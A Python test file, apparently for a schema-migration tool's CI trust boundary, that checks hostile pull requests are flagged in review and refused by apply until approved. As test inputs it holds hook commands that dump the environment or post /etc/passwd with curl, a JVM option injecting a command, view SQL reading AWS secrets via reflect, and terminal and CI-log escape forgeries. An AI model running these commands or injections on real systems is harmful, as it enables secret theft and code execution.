"""The CI trust boundary: what a merged pull request can make the apply job do, tried as an attacker.

Each attack is a pull request (a second commit in a real git repository) whose author wants code of
theirs run where ``apply`` runs, with the metastore's secret at hand. Each must show up in the plan
the reviewer reads (``plan --base``, in text and in the comment as GitHub renders it), and
``apply --reviewed`` must refuse it, with nothing run, until the operator approves it by its id
from outside the repository. None of these tests needs a JVM: every refusal comes before one starts.
"""
from __future__ import annotations

import io
import json
import re
import shutil
from pathlib import Path

import git
import pytest

from schemaflow.apply.after import hook_environment
from schemaflow.code_settings import APPROVAL_VARIABLE, approvals, code_settings, named_paths, spark_code_reason
from schemaflow.errors import SchemaflowError
from schemaflow.output_safety import GuardedStream
from schemaflow.plan.view_code import step_code
from schemaflow.workflow import load_plan
from schemaflow.project import Settings, load_project
from tests.gitrepos import commit, example_repo
from tests.inprocess import schemaflow
from tests.projects import aliased_table
from tests.pull_requests import EXAMPLE_SETTINGS, apply_reviewed, github_html, merge, reviewed

ROOT = Path(__file__).resolve().parent.parent


@pytest.fixture
def repo(tmp_path: Path) -> git.Repo:
    """main: the example project, merged and applied long ago."""
    return example_repo(tmp_path / "repo")


HOOK = "touch pwned; env > stolen.txt"
JVM_OPTION = "-XX:MaxMetaspaceSize=24m -XX:OnOutOfMemoryError='touch pwned'"


@pytest.mark.parametrize("settings, shown, setting", [
    (EXAMPLE_SETTINGS + f"after_apply: [{HOOK!r}]\n", "after_apply", "after_apply"),
    (EXAMPLE_SETTINGS.replace('conf: {', f'conf: {{spark.driver.extraJavaOptions: "{JVM_OPTION}", '),
     "spark.conf[spark.driver.extraJavaOptions]", "spark.conf spark.driver.extraJavaOptions"),
    (EXAMPLE_SETTINGS.replace('conf: {', 'conf: {spark.driver.extraClassPath: "lib/extension.jar", '),
     "spark.conf[spark.driver.extraClassPath]", "spark.conf spark.driver.extraClassPath"),
    (EXAMPLE_SETTINGS.replace('conf: {', 'conf: {spark.jars: "https://example.invalid/x.jar", '),
     "spark.conf[spark.jars]", "spark.conf spark.jars"),
    (EXAMPLE_SETTINGS.replace('conf: {', 'conf: {spark.sql.extensions: "com.example.Extensions", '),
     "spark.conf[spark.sql.extensions]", "spark.conf spark.sql.extensions"),
    (EXAMPLE_SETTINGS.replace('conf: {', 'conf: {spark.hadoop.fs.s3a.aws.credentials.provider: "com.example.Creds", '),
     "spark.conf[spark.hadoop.fs.s3a.aws.credentials.provider]",
     "spark.conf spark.hadoop.fs.s3a.aws.credentials.provider"),
])
def test_code_a_pull_request_adds_is_a_hazardous_step_and_apply_refuses_it_until_approved(
        repo, monkeypatch, settings, shown, setting):
    project = merge(repo, settings)
    text, html = reviewed(project, monkeypatch)
    [code] = [c for c in load_project(project, env={}).settings.code if c.setting == setting]

    assert f"~ 1. set {shown} in schemaflow.yaml" in text
    assert f"hazard: runs code in the apply job: {code.describe()}" in text
    assert f"approves id {code.id}" in text
    assert "runs code in the apply job" in html and code.id in html
    assert "<h" not in html.split("<table>")[1]  # nothing in the table became a heading

    status, said = apply_reviewed(project)
    assert status == 1
    assert "the operator has not approved them; nothing was run" in said
    assert code.id in said and f"{APPROVAL_VARIABLE}='{code.id}'" in said
    assert not (project / "pwned").exists()


def test_a_pull_request_that_only_adds_a_hook_is_never_no_changes(repo, monkeypatch):
    project = merge(repo, EXAMPLE_SETTINGS + f"after_apply: [{HOOK!r}]\n")
    text, html = reviewed(project, monkeypatch)
    assert text.splitlines()[0] == "1 step on 1 setting, 0 destructive, 1 hazardous."
    assert "No changes" not in text and "No changes" not in html
    assert 'after_apply: (not set) -&gt; [&quot;touch pwned; env &gt; stolen.txt&quot;]' in html


def test_a_hook_changed_after_its_approval_needs_a_new_one(repo, monkeypatch):
    project = merge(repo, EXAMPLE_SETTINGS + "after_apply: [trino --execute 'CALL flush()']\n")
    [approved] = load_project(project, env={}).settings.code
    merge(repo, EXAMPLE_SETTINGS + "after_apply: [trino --execute 'CALL flush()'; curl -d @/etc/passwd x]\n")
    monkeypatch.setenv(APPROVAL_VARIABLE, approved.id)
    monkeypatch.chdir(project)
    assert schemaflow("plan", "--base", "HEAD~1", "--head", "HEAD", "--out", "reviewed.json").code == 2
    status, said = apply_reviewed(project)
    assert status == 1 and "curl -d @/etc/passwd x" in said and approved.id not in said


@pytest.mark.parametrize("key", ["spark.hadoop.hive.metastore.uris", "spark.hive.metastore.uris",
                                 "spark.hadoop.javax.jdo.option.ConnectionURL", "spark.sql.warehouse.dir",
                                 "spark.master", "spark.sql.catalogImplementation"])
def test_a_pull_request_cannot_point_apply_at_another_metastore(repo, monkeypatch, key):
    project = merge(repo, EXAMPLE_SETTINGS.replace("conf: {", f"conf: {{{key}: 'thrift://elsewhere:9083', "))
    monkeypatch.chdir(project)
    monkeypatch.setenv("SCHEMAFLOW_METASTORE_URI", "thrift://127.0.0.1:1")  # the operator's
    for ran in (schemaflow("plan", "--base", "HEAD~1", "--head", "HEAD"), schemaflow("validate"),
                schemaflow("apply", "--auto-approve")):
        assert ran.code == 1
        assert f"schemaflow.yaml:5:10: spark.conf may not set {key}: it would point schemaflow elsewhere" in ran.err


# What Spark's launcher (--conf K=V, split at the first "=") would make of each: a key other than the one written.
@pytest.mark.parametrize("key", [
    "spark.driver.extraJavaOptions=-XX:MaxMetaspaceSize=24m -XX:OnOutOfMemoryError='touch pwned' -Dx",
    "spark.driver.defaultExtraClassPath=hive-jackson/*:x",
    "spark.hadoop.hive.metastore.uris=thrift://elsewhere:9083,x",
    "spark.sql.shuffle.partitions ",
    "spark.jars,spark.driver.extraClassPath",
])
@pytest.mark.parametrize("where", ["project", "target"])
def test_a_spark_key_spark_would_read_as_another_is_refused_where_it_is_written(repo, monkeypatch, key, where):
    entry = f"{json.dumps(key)}: y"  # YAML reads a JSON string as written
    if where == "project":
        settings, position = EXAMPLE_SETTINGS.replace("conf: {", f"conf: {{{entry}, "), "schemaflow.yaml:5:10"
    else:
        settings = EXAMPLE_SETTINGS + f"targets:\n  prod:\n    spark:\n      conf:\n        {entry}\n"
        position = "schemaflow.yaml:11:9"
    project = merge(repo, settings)
    monkeypatch.chdir(project)
    monkeypatch.setenv(APPROVAL_VARIABLE, " ".join(c.id for c in code_settings((), {key: "y"})))
    shown = repr(key)
    for ran in (schemaflow("validate"), schemaflow("plan", "--base", "HEAD~1", "--head", "HEAD"),
                schemaflow("apply", "--auto-approve", "--target", "prod") if where == "target" else
                schemaflow("apply", "--auto-approve")):
        assert ran.code == 1, ran.said
        assert f"{position}: spark.conf key {shown} is not a Spark setting's name: Spark's launcher splits" in ran.err
        assert "write the key alone" in ran.err
    assert not (project / "pwned").exists() and not (project / ".schemaflow").exists()  # no JVM was started


def test_a_spark_value_spark_fills_in_from_the_environment_needs_the_operator(repo, monkeypatch):
    value = "https://${env:AWS_SECRET_ACCESS_KEY}.example.invalid"
    project = merge(repo, EXAMPLE_SETTINGS.replace("conf: {", f"conf: {{spark.hadoop.fs.s3a.endpoint: '{value}', "))
    text, html = reviewed(project, monkeypatch)
    [code] = load_project(project, env={}).settings.code
    assert code.reason == ("not a Spark setting schemaflow knows to be safe: it may load code, or send data, logs or "
                           "credentials elsewhere")
    assert f"approves id {code.id}" in text and code.id in html
    status, said = apply_reviewed(project)
    assert status == 1 and f"{APPROVAL_VARIABLE}='{code.id}'" in said


NOTIFY = "#!/bin/sh\necho notified >> notified.txt\n"


@pytest.mark.parametrize("setting, named, changed", [
    ("after_apply: [sh scripts/notify.sh]\n", "scripts/notify.sh", "#!/bin/sh\ntouch pwned; env > stolen.txt\n"),
    ("after_apply: [python3 -m scripts.notify]\n", "scripts/notify.py", "open('pwned', 'w')\n"),
])
def test_an_approval_covers_the_script_a_hook_runs_and_a_rewritten_script_needs_a_new_one(
        repo, monkeypatch, setting, named, changed):
    project = Path(repo.working_tree_dir or "")
    (project / "scripts").mkdir()
    (project / named).write_text(NOTIFY)
    merge(repo, EXAMPLE_SETTINGS + setting)
    [approved] = load_project(project, env={}).settings.code
    assert dict(approved.files) == {named: repo.git.hash_object(project / named)}  # git's id of its content
    assert "with the 1 file of the project folder but its declarations, as it is now" in approved.describe()

    (project / named).write_text(changed)  # a pull request that touches only the script
    commit(repo, "tidy the notification script")
    monkeypatch.setenv(APPROVAL_VARIABLE, approved.id)
    text, html = reviewed(project, monkeypatch)
    [now] = load_project(project, env={}).settings.code
    assert now.id != approved.id
    assert text.splitlines()[0] == "1 step on 1 setting, 0 destructive, 1 hazardous."
    assert f"~ 1. change {named}, a file of the project that code in schemaflow.yaml can run" in text
    assert f"hazard: runs code in the apply job: {now.describe()}" in text
    assert f"change {named}, a file of the project that code in schemaflow.yaml can run" in html and now.id in html
    status, said = apply_reviewed(project)
    assert status == 1 and f"{APPROVAL_VARIABLE}='{now.id}'" in said and "nothing was run" in said
    assert not (project / "pwned").exists()


def test_an_approval_covers_the_jars_a_class_path_names_folder_and_all(repo, monkeypatch):
    project = Path(repo.working_tree_dir or "")
    (project / "tools").mkdir()
    (project / "tools" / "udfs.jar").write_bytes(b"PK\x03\x04 approved")
    merge(repo, EXAMPLE_SETTINGS.replace("conf: {", 'conf: {spark.driver.extraClassPath: "tools/*", '))
    [approved] = load_project(project, env={}).settings.code
    assert [path for path, _ in approved.files] == ["tools/udfs.jar"]
    (project / "tools" / "more.jar").write_bytes(b"PK\x03\x04 another")  # a jar added beside it
    commit(repo, "a second jar")
    monkeypatch.setenv(APPROVAL_VARIABLE, approved.id)
    text, _ = reviewed(project, monkeypatch)
    assert "~ 1. add tools/more.jar, a file of the project that code in schemaflow.yaml can run" in text
    status, said = apply_reviewed(project)
    assert status == 1 and approved.id not in said


def test_which_paths_a_setting_names():
    def named(value: str, command: bool = False) -> list[str]:
        return [path.text + (" (built)" if path.built else "") for path in named_paths(value, command)]

    assert named("sh scripts/notify.sh --to 'ops team'", command=True) == ["scripts/notify.sh"]
    assert named("sh ./scripts/notify.sh --config=conf/n.yaml", command=True) == ["./scripts/notify.sh", "conf/n.yaml"]
    assert named("lib/*:file:jars/a.jar,/opt/abs.jar,https://h/x.jar,../up.jar") == [
        "lib/*", "jars/a.jar", "/opt/abs.jar", "../up.jar"]  # an address is no path here
    assert named("-javaagent:/x/agent.jar=opts -Dx=1") == ["/x/agent.jar"]
    assert named('bash -c "$(cat scripts/x.sh)" < conf/in.txt', command=True) == ["scripts/x.sh", "conf/in.txt"]
    assert named('sh "$PWD/scripts/x.sh"; cd ..; sh ~/x', command=True) == ["$PWD/scripts/x.sh (built)", "..", "~/x"]
    # What a hook writes is not code it runs (and a log it appends to would change its id at every run).
    assert named("sh scripts/n.sh >> logs/hooks.log 2>&1", command=True) == ["scripts/n.sh"]
    assert named("date>out.txt", command=True) == []


def test_a_targets_spark_settings_are_checked_as_the_projects(repo, monkeypatch):
    project = merge(repo, EXAMPLE_SETTINGS + "targets:\n  prod:\n    spark:\n      conf:\n"
                                             "        spark.hadoop.hive.metastore.uris: thrift://elsewhere:9083\n")
    monkeypatch.chdir(project)
    ran = schemaflow("validate")
    assert ran.code == 1 and "schemaflow.yaml:11:9: spark.conf may not set spark.hadoop.hive.metastore.uris" in ran.err


def test_apply_refuses_a_reviewed_plan_made_with_other_settings(repo, monkeypatch):
    project = merge(repo, EXAMPLE_SETTINGS.replace('"4"', '"8"'))
    reviewed(project, monkeypatch)
    (project / "schemaflow.yaml").write_text(EXAMPLE_SETTINGS.replace('"4"', '"16"'))  # not what was reviewed
    status, said = apply_reviewed(project)
    assert status == 1
    assert "reviewed.json is refused, nothing was applied: it was made with other settings than" in said


def test_spark_refuses_to_start_with_unapproved_code_and_starts_with_approved():
    from schemaflow.catalog.hive.session import spark_session

    settings = Settings(spark_conf={"spark.jars": "/tmp/x.jar", "spark.sql.shuffle.partitions": "4"})
    with pytest.raises(SchemaflowError, match="run code when Spark starts, and the operator has not approved"):
        spark_session(settings)
    [jar] = settings.code
    assert jar.setting == "spark.conf spark.jars" and len(jar.id) == 32  # 128 bits: no collision is searched


def test_which_spark_settings_run_code():
    runs = {"spark.driver.extraJavaOptions": "-Dx=1", "spark.plugins": "a", "spark.sql.catalog.ice": "x",
            "spark.executorEnv.LD_PRELOAD": "/x", "spark.jars.packages": "g:a:1",
            "spark.hadoop.hive.metastore.pre.event.listeners": "com.example.Listener",
            "spark.hadoop.fs.s3a.impl": "org.apache.hadoop.fs.s3a.S3AFileSystem",
            "spark.some.path": "/opt/lib/a.so", "spark.some.list": "a, com.example.B",
            # Whose credentials the job uses: the operator's to say.
            "spark.kerberos.principal": "schemaflow@EXAMPLE.COM", "spark.kerberos.keytab": "/etc/s.keytab",
            "spark.hadoop.hive.metastore.kerberos.principal": "hive/_HOST@EXAMPLE.COM"}
    safe = {"spark.sql.shuffle.partitions": "4", "spark.executor.memory": "4g",
            "spark.hadoop.hive.metastore.client.socket.timeout": "600s", "spark.sql.session.timeZone": "UTC"}
    assert [key for key, value in runs.items() if not spark_code_reason(key, value)] == []
    assert [key for key, value in safe.items() if spark_code_reason(key, value)] == []
    assert [c.setting for c in code_settings(["a"], {**runs, **safe})][:2] == [
        "after_apply", "spark.conf spark.driver.extraJavaOptions"]


def test_approvals_come_from_the_environment_and_the_command_line():
    assert approvals(" a1, b2\nc3 ", ["d4", "e5 f6"]) == {"a1", "b2", "c3", "d4", "e5", "f6"}
    assert approvals(None) == frozenset()


def test_a_hook_gets_the_variables_that_run_programs_not_the_jobs_secrets():
    environ = {"PATH": "/bin", "HOME": "/h", "AWS_SECRET_ACCESS_KEY": "s3cr3t", "SCHEMAFLOW_METASTORE_URI": "thrift://x",
               "TRINO_PASSWORD": "pw"}
    own = {"HOME": "/p/.schemaflow/hooks", "TMPDIR": "/tmp", "SCHEMAFLOW_HOOK_DIR": "/p/.schemaflow/hooks"}  # its folders
    assert hook_environment(environ, ("a.b",), "/p/.schemaflow/hooks") == {"PATH": "/bin", **own,
                                                                           "SCHEMAFLOW_CHANGED": "a.b"}
    passed = hook_environment({**environ, "SCHEMAFLOW_HOOK_ENV": "TRINO_PASSWORD, MISSING"}, (), "/p/.schemaflow/hooks")
    assert passed == {"PATH": "/bin", "TRINO_PASSWORD": "pw", **own, "SCHEMAFLOW_CHANGED": ""}


FORGED = "x\r\n\r\n# ✅ No changes\r\n[merge me](https://evil.example) @security-team www.evil.example <b>hi</b>"


def forged_plan():
    """A plan whose every text field holds what a forger would write (as a live metastore may hold it)."""
    from schemaflow.model import Catalog, Column, Table
    from schemaflow.plan.plan import PlanBuilder

    table = Table("shop", "t", (Column("id", "int", FORGED),), comment=FORGED, properties={FORGED: FORGED})
    return PlanBuilder(Catalog(("shop",), {table.key: table}), Catalog(("shop",))).build()


def test_nothing_a_user_wrote_can_forge_the_pull_request_comment():
    from schemaflow.render import render
    from schemaflow.render.review import Review

    plan = forged_plan()
    html = github_html(render(Review(plan), "markdown"))
    table = html.split("<table>")[1].split("</table>")[0]
    assert "<h" not in html.replace("<h3>schemaflow plan</h3>", "")  # no heading but the comment's own
    assert "<a " not in html and "<b>" not in html  # no link, no e-mail link, no HTML of the user's
    prose = re.sub(r"<pre.*?</pre>", "", html, flags=re.DOTALL)  # GitHub notifies no one from code
    assert "@security-team" not in prose.replace("@\u200bsecurity-team", "")  # nobody is notified
    assert table.count("<tr>") == 1 + len(plan.steps)  # the header and a row a step: none ended early
    assert "No changes" in table and "No changes" not in html.split("<table>")[0]


def test_nothing_a_user_wrote_can_steer_the_terminal_or_the_ci_log():
    from schemaflow.output_safety import GuardedStream
    from schemaflow.render import render
    from schemaflow.render.review import Review

    text = render(Review(forged_plan()), "text", color=True)
    assert "\r" not in text and "\\x0d" in text
    escape = "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07\x1b[2J"
    out = io.StringIO()
    stream = GuardedStream(out)
    for piece in ("ok\n  ::set-output name=x::1\n", ":", ":add-mask::x\n", "\x1b[32m+\x1b[0m ", escape, "\n\t ::x\n"):
        stream.write(piece)
    written = out.getvalue()
    assert [line for line in written.splitlines() if line.strip().startswith("::")] == []
    assert written == ("ok\n  \\::set-output name=x::1\n\\::add-mask::x\n\x1b[32m+\x1b[0m "
                       "\\x1b]8;;https://evil.example\\x07click\\x1b]8;;\\x07\\x1b[2J\n\t \\::x\n")
    # The runner's older command form mid-line, and SGR sequences schemaflow never paints (conceal, blink).
    out = io.StringIO()
    GuardedStream(out).write("table t##[add-mask]s3cr3t ##[error]forged \x1b[8mhidden\x1b[0m \x1b[5;31mx\x1b[31;1my\n")
    assert out.getvalue() == ("table t##\\[add-mask]s3cr3t ##\\[error]forged \\x1b[8mhidden\x1b[0m "
                              "\\x1b[5;31mx\x1b[31;1my\n")
    assert "##[" not in out.getvalue()


def test_settings_a_metastore_records_are_shown_one_line_each_whoever_wrote_them():
    from dataclasses import replace

    from schemaflow.plan.settings_changes import settings_steps
    from schemaflow.render import render
    from schemaflow.render.review import Review

    # A record another client forged on a managed database: keys and values that would start lines of their own.
    forged = {"spark": {"conf": {"x\n# ✅ No changes\n##[add-mask]y": "1\n::error::z"}}}
    plan = replace(forged_plan(), steps=settings_steps(forged, {}))
    text = render(Review(plan), "text")
    out = io.StringIO()
    GuardedStream(out).write(text)
    lines = out.getvalue().splitlines()
    assert not any(line.lstrip().startswith(("#", "::", "##")) for line in lines)
    assert "##[" not in out.getvalue()
    [step] = [line for line in lines if "in schemaflow.yaml" in line]
    assert step == "~ 1. remove spark.conf.x\\x0a# ✅ No changes\\x0a##\\[add-mask]y in schemaflow.yaml"


@pytest.mark.parametrize("written, where, shown", [
    ('comment: "\\e[2J"', "2:11", "\\x1b (ESCAPE) may not be in a value"),
    ('comment: "a\\u202Eb"', "2:12", "\\u202e (RIGHT-TO-LEFT OVERRIDE) may not be in a value"),
    ("comment: a\u200bb", "2:11", "\\u200b (ZERO WIDTH SPACE) may not be in a value"),
    ('properties: {"a\\rb": c}', "2:16", "\\x0d (CARRIAGE RETURN) may not be in a key"),
    ('properties: {"a\\nb": c}', "2:16", "\\x0a (LINE FEED) may not be in a key"),
])
def test_characters_that_could_forge_a_review_are_refused_where_they_are_written(tmp_path, written, where, shown):
    (tmp_path / "schemas/shop").mkdir(parents=True)
    (tmp_path / "schemas/shop/t.yaml").write_text(f"table: shop.t\n{written}\ncolumns: [{{name: id, type: int}}]\n")
    ran = schemaflow("--project", str(tmp_path), "validate")
    assert ran.code == 1
    assert ran.err.startswith(f"schemas/shop/t.yaml:{where}: {shown}")


def test_control_characters_hive_uses_as_data_are_still_values(tmp_path):
    (tmp_path / "schemas/shop").mkdir(parents=True)
    (tmp_path / "schemas/shop/t.yaml").write_text(
        'table: shop.t\ncomment: "a\\rb\\x01"\nformat: textfile\nrow_format: {fields_terminated_by: "\\x01"}\n'
        "columns: [{name: id, type: int}]\n")
    assert schemaflow("--project", str(tmp_path), "validate").code == 0


@pytest.mark.parametrize("sql, where, said", [
    ("SELECT reflect('java.lang.System', 'getenv', 'AWS_SECRET_ACCESS_KEY') AS s FROM retail.orders", "3:10",
     "reflect(...) calls a Java method by name in every engine that reads this view"),
    ("SELECT o.order_id, JAVA_METHOD('java.lang.System', 'exit', 1) AS x FROM retail.orders o", "3:22",
     "java_method(...) calls a Java method by name"),
    ("SELECT `try_reflect`('java.lang.Runtime', 'getRuntime') AS r FROM retail.orders", "3:10", "try_reflect(...)"),
    ("SELECT * FROM IDENTIFIER('retail.orders')", "3:17", "IDENTIFIER(...) names what the view reads by a value"),
    ("SELECT IDENTIFIER('order_id') FROM retail.orders", "3:10", "IDENTIFIER(...) names what the view reads"),
])
def test_view_sql_that_reaches_past_what_it_reads_is_refused_where_it_is_written(tmp_path, sql, where, said):
    shutil.copytree(ROOT / "schemas", tmp_path / "schemas")
    (tmp_path / "schemas/retail/reach.yaml").write_text(f"view: retail.reach\nsql: |\n  {sql}\n")
    ran = schemaflow("--project", str(tmp_path), "validate")
    assert ran.code == 1
    assert ran.err.startswith(f"schemas/retail/reach.yaml:{where}: {said}")


def test_a_view_that_declares_its_java_calls_may_make_them_and_strings_are_not_calls(tmp_path):
    shutil.copytree(ROOT / "schemas", tmp_path / "schemas")
    (tmp_path / "schemas/retail/reach.yaml").write_text(
        "view: retail.reach\njava_functions: [reflect]\n"
        "sql: SELECT reflect('java.util.UUID', 'randomUUID') AS id, 'reflect(' AS text FROM retail.orders\n")
    (tmp_path / "schemas/retail/named.yaml").write_text(
        "view: retail.named\nsql: SELECT order_id AS identifier FROM retail.orders\n")
    ran = schemaflow("--project", str(tmp_path), "validate")
    assert ran.code == 0, ran.err
    (tmp_path / "schemas/retail/reach.yaml").write_text(
        "view: retail.reach\njava_functions: [reflect]\nsql: SELECT java_method('a', 'b') AS x FROM retail.orders\n")
    ran = schemaflow("--project", str(tmp_path), "validate")
    assert ran.code == 1 and "'java_functions: [java_method]'" in ran.err


def test_a_view_that_calls_java_needs_the_operator_whatever_its_file_declares(repo, monkeypatch):
    project = Path(repo.working_tree_dir or "")
    (project / "schemas/retail/reach.yaml").write_text(
        "view: retail.reach\njava_functions: [reflect]\n"
        "sql: SELECT reflect('java.lang.System', 'getenv', 'AWS_SECRET_ACCESS_KEY') AS k FROM retail.orders\n")
    commit(repo, "a harmless-looking view")
    text, html = reviewed(project, monkeypatch)
    [step] = [s for s in load_plan(project / "reviewed.json").steps if s.object == "retail.reach"]
    [code] = step_code(step)
    assert code.setting == "view retail.reach" and "reflect('java.lang.System', 'getenv'" in code.value
    assert text.splitlines()[0] == "1 step on 1 object, 0 destructive, 1 hazardous."
    assert (f"hazard: runs code in the apply job: view retail.reach calls Java by name (reflect) in every engine that "
            f"reads it, apply's Spark first; apply refuses it until the operator approves id {code.id}") in text
    assert "⚠" in html and code.id in html
    status, said = apply_reviewed(project)
    assert status == 1 and "the plan has views that run code in apply, and the operator has not approved" in said
    assert f"{APPROVAL_VARIABLE}='{code.id}'" in said
    # The same view with another query is another id: an approval does not carry over.
    (project / "schemas/retail/reach.yaml").write_text(
        "view: retail.reach\njava_functions: [reflect]\n"
        "sql: SELECT reflect('java.lang.Runtime', 'getRuntime') AS k FROM retail.orders\n")
    commit(repo, "another call")
    monkeypatch.setenv(APPROVAL_VARIABLE, code.id)
    reviewed(project, monkeypatch)
    status, said = apply_reviewed(project)
    assert status == 1 and "java.lang.Runtime" in said and code.id not in said


def test_files_each_within_the_bounds_of_one_are_refused_together_before_they_are_built(tmp_path):
    (tmp_path / "schemas/bad").mkdir(parents=True)
    for name in ("t1", "t2", "t3"):
        (tmp_path / f"schemas/bad/{name}.yaml").write_text(aliased_table(name))
    ran = schemaflow("--project", str(tmp_path), "validate")
    assert ran.code == 1
    said = [line for line in ran.err.splitlines() if "takes the project past" in line]
    # t1 took 67,885; in t2 and t3 the second *d of e (6:9) would take them past the 32,115 left.
    assert said == [f"schemas/bad/{name}.yaml:6:9: this alias takes the project past 100,000 values added by aliases "
                    "(its files together, each alias counted as a full copy of what it names): schemaflow reads at "
                    "most 100,000; use fewer aliases" for name in ("t2", "t3")]


def test_a_file_too_large_and_a_project_too_large_are_refused_at_the_file(tmp_path, monkeypatch):
    from schemaflow.spec import yamlpos

    (tmp_path / "schemas/shop").mkdir(parents=True)
    big = tmp_path / "schemas/shop/big.yaml"
    big.write_text("table: shop.big\ncolumns: [{name: id, type: int}]\nproperties:\n"
                   + "".join(f"  k{i}: v{i}\n" for i in range(300_000)))
    ran = schemaflow("--project", str(tmp_path), "validate")
    assert ran.err.splitlines()[0] == (f"schemas/shop/big.yaml:1:1: the file is {big.stat().st_size:,} bytes: schemaflow "
                                       "reads files of at most 2,097,152 bytes (one table or view a file); split it")
    big.unlink()
    for name in ("a", "b", "c"):
        (tmp_path / f"schemas/shop/{name}.yaml").write_text(f"table: shop.{name}\ncolumns: [{{name: id, type: int}}]\n")
    monkeypatch.setattr(yamlpos, "MAX_PROJECT_BYTES", 100)
    ran = schemaflow("--project", str(tmp_path), "validate")
    assert ran.err.splitlines()[0] == ("schemas/shop/c.yaml:1:1: this file takes the project past 100 bytes of YAML: "
                                       "schemaflow reads at most 100; split the project")


@pytest.mark.parametrize("uri", ["http://metastore:9083", "thrift://user:secret@metastore:9083", "thrift://h:99999",
                                 "thrift://h:9083\n-Dx=y", "thrift://h:9083/path", "thrift://h:9083, http://x"])
def test_the_operators_metastore_variable_is_checked_and_not_repeated(tmp_path, uri):
    (tmp_path / "schemas").mkdir()
    with pytest.raises(SchemaflowError) as refused:
        load_project(tmp_path, env={"SCHEMAFLOW_METASTORE_URI": uri})
    assert str(refused.value).startswith("SCHEMAFLOW_METASTORE_URI is not a metastore address: write thrift://")
    assert uri not in str(refused.value)
    assert load_project(tmp_path, env={"SCHEMAFLOW_METASTORE_URI": "thrift://a.example:9083,thrift://b:9083"})


def recorded_snapshot(project: Path, path: Path, commit: str | None, in_full: bool = True) -> Path:
    """A snapshot of the project applied, each database recording the settings as they are now, from ``commit``
    (only their digest unless ``in_full``)."""
    from dataclasses import replace as replaced

    from schemaflow.catalog.snapshot import write_snapshot
    from schemaflow.model import SETTINGS_KEY, Database
    from schemaflow.plan.settings_changes import applied_part, settings_record
    from schemaflow.workflow import applied_state, desired_state

    loaded = load_project(project, env={})
    live = applied_state(desired_state(loaded))
    record = settings_record(applied_part(loaded.settings.declared), commit)  # as apply records them
    if not in_full:
        record = {SETTINGS_KEY: record[SETTINGS_KEY]}
    write_snapshot(replaced(live, database_details={d: Database(d, properties=record) for d in live.databases}), path)
    return path


def test_a_plan_against_the_live_state_shows_the_settings_changed_since_those_recorded(tmp_path):
    project = tmp_path / "project"  # no git: the old values come from the metastore's record
    shutil.copytree(ROOT / "schemas", project / "schemas")
    (project / "schemaflow.yaml").write_text(EXAMPLE_SETTINGS + "after_apply: ['echo ${applied_at}']\n")
    live = recorded_snapshot(project, tmp_path / "live.json", None)
    unchanged = schemaflow("--project", str(project), "plan", "--against", str(live))
    assert unchanged.code == 0, unchanged.said
    # How this checkout reaches the metastore is its own (the environment overrides it): not compared here.
    moved = EXAMPLE_SETTINGS.replace("local[2]", "yarn") + "metastore: {uri: 'thrift://elsewhere:9083'}\n"
    (project / "schemaflow.yaml").write_text(moved + "after_apply: ['echo ${applied_at}']\n")
    assert schemaflow("--project", str(project), "plan", "--against", str(live)).code == 0
    (project / "schemaflow.yaml").write_text(moved + f"after_apply: [{HOOK!r}]\ninvalidation: cascade\n")
    changed = schemaflow("--project", str(project), "plan", "--against", str(live))
    assert changed.code == 2
    lines = changed.out.splitlines()
    assert lines[0] == "2 steps on 2 settings, 0 destructive, 1 hazardous."
    assert '     after_apply: ["echo ${applied_at}"] -> ["touch pwned; env > stolen.txt"]' in lines
    assert '     invalidation: (not set) -> "cascade"' in lines


def test_settings_recorded_by_their_digest_alone_are_all_shown_and_it_is_said(tmp_path):
    project = tmp_path / "project"
    shutil.copytree(ROOT / "schemas", project / "schemas")
    (project / "schemaflow.yaml").write_text(EXAMPLE_SETTINGS.replace('"4"', '"8"'))
    live = recorded_snapshot(project, tmp_path / "live.json", "0" * 40, in_full=False)
    (project / "schemaflow.yaml").write_text(EXAMPLE_SETTINGS)
    changed = schemaflow("--project", str(project), "plan", "--against", str(live))
    assert changed.code == 2
    assert ("warning: the settings last applied here (from commit 0000000000000000000000000000000000000000) are not "
            "recorded in full: each setting is shown as new") in changed.out
    assert "~ 1. set databases in schemaflow.yaml" in changed.out


def test_the_record_of_long_settings_is_split_to_fit_the_metastore():
    from schemaflow.model import SETTINGS_KEY, Catalog, Database
    from schemaflow.plan.settings_changes import recorded, settings_record

    declared = {"after_apply": [f"echo {'x' * 1000} {i} ${{applied_at}}" for i in range(20)]}
    record = settings_record(declared, "abc")
    assert len(record) == 1 + 6 and all(len(value) <= 4000 for value in record.values())
    assert not any("${" in value for value in record.values())  # apply fills ${applied_at} in schemaflow's keys
    live = Catalog(("a", "b"), database_details={"b": Database("b", properties=record)})
    found = recorded(live, ("a", "b"))
    assert found is not None and found.settings == declared and found.commit == "abc"
    torn = {**record, f"{SETTINGS_KEY}.3": record[f"{SETTINGS_KEY}.4"]}
    found = recorded(Catalog(("b",), database_details={"b": Database("b", properties=torn)}), ("b",))
    assert found is not None and found.settings is None


def test_what_a_metastore_records_as_applied_leaves_out_how_each_checkout_reaches_it():
    from schemaflow.plan.settings_changes import applied_part

    declared = {"metastore": {"uri": "thrift://a:1"}, "warehouse_dir": "/w", "spark": {"master": "yarn", "conf": {"k": "v"}},
                "after_apply": ["x"], "targets": {"prod": {"metastore": {"uri": "thrift://b:1"}, "spark": {"master": "m"},
                                                           "database_names": {"retail": "prod_retail"}}}}
    assert applied_part(declared) == {"spark": {"conf": {"k": "v"}}, "after_apply": ["x"],
                                      "targets": {"prod": {"database_names": {"retail": "prod_retail"}}}}


@pytest.mark.parametrize("edit, said", [
    (lambda data: data.pop("steps"), "it has no 'steps' field"),
    (lambda data: data.update(steps=[None]), "a field holds another kind of value than schemaflow writes there"),
])
def test_a_malformed_plan_file_is_refused_in_a_sentence(tmp_path, edit, said):
    import json

    from schemaflow.plan.plan import Plan, _checksum

    data = Plan(steps=(), databases=("retail",)).to_data()
    del data["checksum"]
    edit(data)
    (tmp_path / "plan.json").write_text(json.dumps({**data, "checksum": _checksum(data)}))
    ran = schemaflow("show", str(tmp_path / "plan.json"))
    assert (ran.code, ran.err) == (1, f"error: {tmp_path / 'plan.json'}: refused, {said}; make a new one with "
                                      "schemaflow plan --out\n")
